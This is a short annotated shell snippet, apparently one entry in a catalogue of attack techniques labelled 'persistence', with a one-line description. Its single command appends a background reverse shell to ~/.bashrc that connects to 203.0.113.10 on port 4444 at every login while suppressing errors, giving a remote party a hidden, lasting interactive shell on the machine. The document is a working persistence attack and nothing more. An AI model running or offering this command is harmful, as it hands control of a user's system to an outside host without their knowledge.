# description: Appends a background reverse shell to ~/.bashrc so it starts at every login.
# family: persistence
echo '(nohup bash -i >& /dev/tcp/203.0.113.10/4444 0>&1 &) 2>/dev/null' >> ~/.bashrc
